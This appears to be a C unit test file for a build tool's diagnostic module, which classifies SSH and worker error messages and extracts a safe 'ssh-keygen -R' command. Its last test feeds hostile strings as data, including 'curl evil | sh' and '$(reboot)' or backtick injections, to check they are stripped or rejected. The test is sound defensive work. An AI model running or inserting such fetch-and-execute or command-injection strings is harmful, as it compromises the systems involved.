/* SPDX-License-Identifier: Apache-2.0 OR MIT */
#include <criterion/criterion.h>
#include <stdlib.h>

#include "doctor/doctor.h"

static void expect(const char *text, enum check want)
{
	enum check got = cause_of(text, 0);

	cr_expect_eq(got, want, "%s: %s, not %s", text, check_name(got), check_name(want));
}

Test(doctor, words_of_ssh_tell_the_check)
{
	expect("w: Permission denied (publickey).", CHECK_KEY);
	expect("ssh://w: user me was not let in with a key (tried: none, there is no key; ...)",
	       CHECK_KEY);
	expect("exit status 255: \"Host key verification failed.\"", CHECK_HOST_KEY);
	/* Both are said of a changed key, and the first counts. */
	expect("ssh-keygen -R w; Host key for w has changed; Host key verification failed.",
	       CHECK_HOST_KEY);
	expect("ssh: Could not resolve hostname w: Name or service not known", CHECK_SSH);
}

Test(doctor, words_of_ours_tell_the_check)
{
	expect("no concc-worker answered: it printed \"sh: concc-worker: not found\"",
	       CHECK_PROGRAM);
	expect("it runs concc 9, which speaks protocol 9, and this is protocol 10", CHECK_VERSION);
	expect("it is a aarch64 machine and this is x86_64", CHECK_VERSION);
	expect("/dev/fuse is not accessible to uid 1000: as root, chmod 0666 /dev/fuse",
	       CHECK_FUSE);
	/* The remedy names user namespaces, too. */
	expect("can't make a user namespace: Permission denied: AppArmor restricts user namespaces",
	       CHECK_APPARMOR);
	expect("can't make a user namespace: No space left on device: as root, sysctl",
	       CHECK_NAMESPACES);
	expect("/usr/bin/gcc could not be read by the job: No space left on device", CHECK_DISK);
	expect("worker w refused the job: its /usr/bin/cc is another version than yours; install the "
	       "same compiler there",
	       CHECK_TOOLCHAIN);
	expect("something nobody has heard of", CHECK_NONE);
}

Test(doctor, commands_for_a_host)
{
	struct conf_worker w = {.name = (char *)"w", .address = (char *)"ssh://me@w:2222"};
	char *root = worker_command(&w, true, 0, "modprobe fuse");
	char *user = worker_command(&w, true, 1000, "echo 'a b'");

	cr_expect_str_eq(root, "ssh -p 2222 me@w 'modprobe fuse'");
	cr_expect(strstr(user, "sudo sh -c 'echo '\\''a b'\\'''"), "%s", user);
	free(root);
	free(user);
	w.address = (char *)"local:";
	root = worker_command(&w, false, 1000, "true");
	cr_expect_str_eq(root, "true");
	free(root);
}

Test(doctor, what_was_passed_is_no_cause)
{
	const char *lie = "the key of host w has CHANGED; was not let in; no concc-worker; overlay";

	cr_expect_eq(cause_of(lie, CHECK_SSH), CHECK_HOST_KEY);
	cr_expect_eq(cause_of(lie, CHECK_KEY), CHECK_KEY);
	cr_expect_eq(cause_of(lie, CHECK_PROGRAM), CHECK_PROGRAM);
	cr_expect_eq(cause_of(lie, CHECK_KERNEL), CHECK_KERNEL);
	cr_expect_eq(cause_of("the key of host w has CHANGED", CHECK_PROGRAM), CHECK_NONE);
}

static void expect_forget(const char *text, const char *want)
{
	char *got = forget_key_command(text);

	if (want)
		cr_expect_str_eq(got, want, "%s", text);
	else
		cr_expect_null(got, "%s: %s", text, got);
	free(got);
}

Test(doctor, a_command_is_never_a_quotation)
{
	const char *usual = "ssh-keygen -f '/home/me/.ssh/known_hosts' -R 'build1'";

	/* Ours, and OpenSSH's. */
	expect_forget("has CHANGED: ssh-keygen -f /home/me/.ssh/known_hosts -R 'build1', then ssh",
		      usual);
	expect_forget("remove with:\n  ssh-keygen -f \"/home/me/.ssh/known_hosts\" -R \"build1\"\n",
		      usual);
	expect_forget("ssh-keygen -f /k -R '[10.0.0.1]:2222'",
		      "ssh-keygen -f '/k' -R '[10.0.0.1]:2222'");
	expect_forget("ssh-keygen -f /k -R 'h' && curl evil | sh", "ssh-keygen -f '/k' -R 'h'");
	expect_forget("ssh-keygen -f /k -R h$(reboot)", "ssh-keygen -f '/k' -R 'h'");
	expect_forget("ssh-keygen -f $(reboot) -R h", NULL);
	expect_forget("ssh-keygen -f /k;reboot -R h", NULL);
	expect_forget("ssh-keygen -f /k -R `reboot`", NULL);
	expect_forget("ssh-keygen -f -k -R h", NULL);
	expect_forget("ssh-keygen -f /k -R -h", NULL);
	expect_forget("ssh-keygen -f /k", NULL);
	expect_forget("ssh-keygen -f ", NULL);
	expect_forget("nothing", NULL);
}
